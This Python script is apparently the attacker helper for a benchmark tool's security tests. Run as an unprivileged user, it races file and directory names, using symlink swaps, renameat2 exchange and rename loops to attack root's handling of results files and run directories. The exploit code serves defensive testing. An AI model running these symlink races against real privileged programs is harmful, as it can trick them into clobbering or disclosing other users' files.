#!/usr/bin/env python3
"""swap.py: the unprivileged attacker of tests/security/*.sh, run as
another user with runuser. It waits for a name pfsbench makes, then keeps
swapping things onto it until STOP exists or 60 s pass.

  swap.py results D NAME VICTIM TARGET STOP
      once D/NAME exists (the run's results file), renames in turn an
      empty file of ours, a symbolic link to VICTIM and one to
      TARGET/new.h5 onto D/NAME (issue 26, attack 2)
  swap.py rundir D TARGET STOP WHEN
      once D/pfsbench.* appears (WHEN "made") or holds its first worker's
      directory (WHEN "worker"), puts a symbolic link to TARGET in the run
      directory's place in one step, then moves the directory to
      D/away.N, for every run directory that appears (attack 3)
  swap.py files D NAME A B STOP
      renames in turn a fresh copy of A and one of B onto D/NAME, from
      the start until STOP exists or 600 s pass: a results file swapped
      while root reads it (attack 4)
"""
import ctypes
import glob
import os
import shutil
import sys
import time


def results(d, name, victim, target, stop):
    path = os.path.join(d, name)
    end = time.time() + 60
    while not os.path.lexists(path):
        if os.path.exists(stop) or time.time() > end:
            return
    n = 0
    while not os.path.exists(stop) and time.time() < end:
        n += 1
        tmp = os.path.join(d, ".t%d" % n)
        try:
            if n % 3 == 0:
                open(tmp, "w").close()
            else:
                os.symlink(victim if n % 3 == 1 else os.path.join(target, "new.h5"), tmp)
            os.rename(tmp, path)
        except OSError:
            pass


LIBC = ctypes.CDLL(None, use_errno=True)


def exchange(a, b):
    """Swaps the names a and b in one step (renameat2 RENAME_EXCHANGE):
    at no moment is either name missing, so a rank that resolves it never
    meets ENOENT, only the one or the other."""
    if LIBC.renameat2(-100, a.encode(), -100, b.encode(), 2) != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))


def rundir(d, target, stop, when):
    end = time.time() + 60
    n = 0
    while not os.path.exists(stop) and time.time() < end:
        for run in glob.glob(os.path.join(d, "pfsbench.*")):
            if os.path.islink(run) or (when == "worker" and
                                       not glob.glob(os.path.join(run, "*.1"))):
                continue
            n += 1
            tmp = os.path.join(d, ".link%d" % n)
            try:
                os.symlink(target, tmp)
                exchange(run, tmp)
                os.rename(tmp, os.path.join(d, "away.%d" % n))
            except OSError:
                if os.path.islink(tmp):
                    os.unlink(tmp)


def files(d, name, a, b, stop):
    path = os.path.join(d, name)
    end = time.time() + 600
    n = 0
    while not os.path.exists(stop) and time.time() < end:
        n += 1
        tmp = os.path.join(d, ".t%d" % n)
        try:
            shutil.copyfile(a if n % 2 else b, tmp)
            os.rename(tmp, path)
        except OSError:
            pass


if __name__ == "__main__":
    if sys.argv[1] == "results":
        results(*sys.argv[2:7])
    elif sys.argv[1] == "files":
        files(*sys.argv[2:7])
    else:
        rundir(*sys.argv[2:6])
